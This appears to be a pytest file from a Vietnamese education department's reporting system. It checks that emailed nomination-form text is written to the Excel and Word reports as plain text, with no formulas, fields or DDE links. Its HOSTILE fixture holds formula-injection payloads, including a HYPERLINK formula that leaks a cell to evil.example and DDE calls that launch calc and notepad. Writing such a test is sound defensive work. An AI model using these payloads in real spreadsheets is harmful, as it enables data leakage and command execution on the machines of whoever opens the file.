"""Text from a mail is text in the reports: no formula, no DDE call, in any workbook the Sở writes."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path
from xml.etree import ElementTree

from docx import Document
from sqlmodel import Session, select

from intake.models import RawMessage
from reports.quarterly import report_quarter
from store.models import Nominee
from tests.reports.conftest import Env

NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
SENT = datetime(2024, 6, 17, 2, 0, tzinfo=UTC)
# What an outsider would type in a nomination form to make the council's Excel act.
HOSTILE = {
    "Đơn vị công tác": '=HYPERLINK("http://evil.example/?leak="&B7,"Bấm vào đây")',
    "Tóm tắt thành tích nổi bật": "=cmd|' /C calc'!A0",
    "Chức vụ": "+1+cmd|' /C notepad'!A0",
    "Sáng kiến, sản phẩm đổi mới sáng tạo": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Khen thưởng đã nhận": "-2+3",
}


def _form(rows: dict[str, str]) -> bytes:
    doc = Document()
    doc.add_paragraph("PHIẾU ĐĂNG KÝ GƯƠNG ĐIỂN HÌNH TIÊN TIẾN QUÝ II NĂM 2024")
    table = doc.add_table(rows=0, cols=2)
    for label, value in {"Họ và tên": "Đinh Thị Công Thức", "Đối tượng": "Nhà giáo", **rows,
                         "Minh chứng": "https://drive.google.com/drive/folders/minhchung"}.items():
        cells = table.add_row().cells
        cells[0].text, cells[1].text = label, value
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _hostile_mail() -> bytes:
    msg = EmailMessage()
    msg["From"] = "Phòng GDĐT <pgd.tamdiep@ninhbinh.edu.vn>"
    msg["To"] = "phongcntt.soninhbinh@moet.edu.vn"
    msg["Subject"] = "Phiếu đăng ký gương điển hình tiên tiến quý II/2024"
    msg["Date"] = format_datetime(SENT)
    msg["Message-ID"] = "<formula-1@ninhbinh.edu.vn>"
    msg.set_content("Kính gửi Sở GDĐT Ninh Bình,\nĐơn vị gửi phiếu đăng ký kèm theo.")
    msg.add_attachment(_form(HOSTILE), maintype="application", filename="phieu.docx",
                       subtype="vnd.openxmlformats-officedocument.wordprocessingml.document")
    return msg.as_bytes()


def _sheets(path: Path) -> tuple[list[ElementTree.Element], ElementTree.Element]:
    with zipfile.ZipFile(path) as book:
        names = sorted(n for n in book.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n))
        return ([ElementTree.fromstring(book.read(n)) for n in names],
                ElementTree.fromstring(book.read("xl/styles.xml")))


def _text_cells(sheet: ElementTree.Element) -> dict[str, ElementTree.Element]:
    return {"".join(t.text or "" for t in c.iterfind(".//x:is/x:t", NS)): c
            for c in sheet.iterfind(".//x:c", NS) if c.get("t") == "inlineStr"}


def _quote_prefixed(styles: ElementTree.Element, cell: ElementTree.Element) -> bool:
    xfs = styles.find("x:cellXfs", NS)
    assert xfs is not None
    return list(xfs)[int(cell.get("s", "0"))].get("quotePrefix") == "1"


def test_mail_text_is_written_as_text_never_as_a_formula(env: Env) -> None:
    """GIVEN a unit's form whose fields start with =, +, -, @ (HYPERLINK leak, DDE calls)
    WHEN the quarter's Excel list is written THEN no cell holds a formula, each value is there
    as typed, as a string cell Excel shows as typed text; the Word list holds plain text."""
    env.worker.import_messages([RawMessage(data=_hostile_mail(), received_at=SENT, origin="import")])
    with Session(env.engine) as db:
        stored = db.exec(select(Nominee).where(Nominee.name == "Đinh Thị Công Thức")).one()
    assert stored.summary == HOSTILE["Tóm tắt thành tích nổi bật"]  # the pipeline kept the text as sent
    docx_path, xlsx_path = report_quarter(env.engine, "2024-Q2", env.units, env.ctx, SENT, mail=False)
    sheets, styles = _sheets(xlsx_path)
    for sheet in sheets:
        assert sheet.find(".//x:f", NS) is None
    cells = _text_cells(sheets[0])
    for value in HOSTILE.values():
        assert value in cells, value
        assert _quote_prefixed(styles, cells[value]), value
    assert not _quote_prefixed(styles, cells["Đinh Thị Công Thức"])
    with zipfile.ZipFile(docx_path) as doc:
        body = doc.read("word/document.xml").decode()
    assert "fldSimple" not in body and "instrText" not in body and "ddeLink" not in body
    assert "=cmd|' /C calc'!A0" in body.replace("&amp;", "&").replace("&apos;", "'")

